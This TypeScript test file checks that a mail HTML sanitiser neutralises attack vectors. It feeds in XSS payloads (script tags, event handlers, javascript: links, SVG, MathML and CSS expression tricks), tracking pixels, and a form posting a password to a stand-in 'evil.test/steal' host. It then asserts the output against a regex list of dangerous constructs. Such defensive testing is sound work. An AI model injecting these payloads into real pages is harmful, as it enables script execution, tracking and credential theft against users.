import { sanitizeMailHtml } from '../sanitize-mail-html';

const cid = (id: string) => (id === 'logo@x' ? '/api/mailMessages:attachment?filterByTk=7&part=2' : null);
const clean = (html: string) => sanitizeMailHtml(html, cid);

/** Anything that would run code, submit, navigate, embed or load from the network when rendered. */
function assertInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<button|<base|<meta|<link|<svg|<math|<frame/i);
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|expression\s*\(|-moz-binding|behavior\s*:|@import/i);
  expect(html).not.toMatch(/\s(src|href|srcset|background|poster|action|formaction)\s*=\s*"(https?:)?\/\//i);
  expect(html).not.toMatch(/href\s*=\s*"data:/i);
  expect(html).not.toMatch(/url\(\s*["']?(https?:)?\/\//i);
}

describe('sanitizeMailHtml against attack vectors', () => {
  it.each([
    ['script element', '<p>hi</p><script>alert(1)</script>'],
    ['script in odd case and attributes', '<ScRiPt src="https://evil.test/x.js"></ScRiPt>'],
    ['event handler', '<img src=x onerror="alert(1)"><div onclick="alert(1)" onmouseover=alert(1)>x</div>'],
    ['javascript: link', '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>'],
    ['entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['SVG with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['SVG onload', '<svg onload=alert(1)></svg>'],
    ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
    ['CSS expression in style attribute', '<div style="width: expression(alert(1))">x</div>'],
    ['CSS expression hidden by a comment', '<div style="width: exp/**/ression(alert(1))">x</div>'],
    ['CSS escape', '<div style="width: \\65 xpression(alert(1))">x</div>'],
    [
      'CSS behavior and -moz-binding',
      '<div style="behavior: url(x.htc); -moz-binding: url(https://e/x.xml#x)">x</div>',
    ],
    ['remote CSS url() in style attribute', '<div style="background: url(https://tracker.test/p.gif)">x</div>'],
    [
      'remote CSS in a style block',
      '<style>body{background:url("https://tracker.test/p.gif")} @import url(https://e.test/x.css);</style><p>x</p>',
    ],
    [
      '@font-face loading a remote font',
      '<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{color:red}</style><p>x</p>',
    ],
    [
      'image-set loading without url()',
      '<div style="background-image: image-set(\'https://e.test/x.png\' 1x)">x</div>',
    ],
    ['style block breaking out into script', '<style>p{color:red}</style><script>alert(1)</script><style>x{}</style>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">x'],
    [
      'form',
      '<form action="https://evil.test/steal" method="post"><input name="password"><button formaction="https://evil.test">Go</button></form>',
    ],
    ['base', '<base href="https://evil.test/"><a href="/x">x</a>'],
    [
      'iframe, object, embed',
      '<iframe src="https://evil.test"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
    ],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
    ['tracking pixel', '<img src="https://tracker.test/open.gif?u=1" width="1" height="1">'],
    ['protocol-relative image', '<img src="//tracker.test/open.gif">'],
    [
      'remote table background',
      '<table background="https://tracker.test/bg.png"><tr><td background="http://t.test/x.png">x</td></tr></table>',
    ],
    ['srcset', '<img srcset="https://t.test/a.png 1x, https://t.test/b.png 2x">'],
    [
      'video poster and audio',
      '<video poster="https://t.test/p.png" src="https://t.test/v.mp4"></video><audio src="https://t.test/a.mp3"></audio>',
    ],
    ['unclosed tags and comments', '<p><!--<script>alert(1)</script>--><img src="x" onerror="alert(1)"'],
    [
      'smuggled data-remote attributes stay ours',
      '<img data-remote-src="javascript:alert(1)" data-attachment-part="1">',
    ],
  ])('%s', (_name, input) => {
    const { html } = clean(input);
    assertInert(html);
  });

  it('keeps remote images restorable: the URL moves to data-remote-src', () => {
    const { html, hasRemoteContent } = clean('<p>Hello</p><img src="https://cdn.test/logo.png" alt="Logo">');
    expect(hasRemoteContent).toBe(true);
    expect(html).toContain('data-remote-src="https://cdn.test/logo.png"');
    expect(html).toContain('alt="Logo"');
    expect(html).toContain('<p>Hello</p>');
  });

  it('keeps remote CSS backgrounds restorable through data-remote-style', () => {
    const { html } = clean('<div style="color: red; background: url(https://cdn.test/bg.png)">x</div>');
    expect(html).toMatch(/style="color: red; background: none"/);
    expect(html).toContain('data-remote-style="color: red; background: url(&quot;https://cdn.test/bg.png&quot;)"');
  });

  it('points cid: images at the attachment endpoint and drops unknown ones', () => {
    const { html, hasRemoteContent } = clean('<img src="cid:logo@x"><img src="cid:missing@x">');
    expect(html).toContain('src="/api/mailMessages:attachment?filterByTk=7&amp;part=2"');
    expect(html.match(/src=/g)).toHaveLength(1);
    expect(hasRemoteContent).toBe(false);
  });

  it('keeps ordinary formatting, safe styles, tables, links (opened in a new tab) and inline data images', () => {
    const input =
      '<style>.x{color:#333;font-family:Arial}</style><table width="100%" cellpadding="4"><tr><td class="x" style="font-weight:bold">Cell</td></tr></table>' +
      '<a href="https://example.test/a?b=1">link</a><a href="mailto:a@example.test">mail</a><img src="data:image/png;base64,iVBORw0KGgo=">';
    const { html, hasRemoteContent } = clean(input);
    expect(hasRemoteContent).toBe(false);
    expect(html).toContain('<style>.x{color:#333;font-family:Arial}</style>');
    expect(html).toContain('<td class="x" style="font-weight:bold">Cell</td>');
    expect(html).toContain(
      '<a href="https://example.test/a?b=1" target="_blank" rel="noopener noreferrer nofollow">link</a>',
    );
    expect(html).toContain('href="mailto:a@example.test"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('drops the text of removed elements instead of showing it', () => {
    const { html } = clean('<p>Visible</p><script>secret()</script><title>t</title><textarea>typed</textarea>');
    expect(html).toBe('<p>Visible</p>');
  });

  it("drops a sender's own data-remote-* attributes: only the sanitiser writes them, from CSS it cleaned", () => {
    const { html, hasRemoteContent } = clean(
      '<div data-remote-style="background-image: image-set(\'https://e.test/x.png\' 1x)" data-remote-background="https://e.test/b.png" data-remote-other="x">x</div>' +
        '<img data-remote-srcset="https://e.test/a.png 1x" alt="a">' +
        '<p style="color: red" data-remote-style="background: url(https://e.test/smuggled.png)">y</p>',
    );
    expect(html).toBe('<div>x</div><img alt="a" /><p style="color: red">y</p>');
    expect(hasRemoteContent).toBe(false);
  });

  it('keeps remote images of a style block restorable, so "Show images" loads what it promised', () => {
    const { html, hasRemoteContent } = clean(
      '<style>.hero{background:url("https://cdn.test/hero.png")} p{color:red}</style><p class="hero">x</p>',
    );
    expect(hasRemoteContent).toBe(true);
    expect(html).toContain('>.hero{background:none} p{color:red}</style>');
    expect(html).toContain(
      '<style data-remote-sheet=".hero{background:url(&quot;https://cdn.test/hero.png&quot;)} p{color:red}">',
    );
  });

  it('offers "Show images" only for something that would load: fonts never do', () => {
    expect(
      clean('<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{font-family:x}</style><p>x</p>')
        .hasRemoteContent,
    ).toBe(false);
  });
});
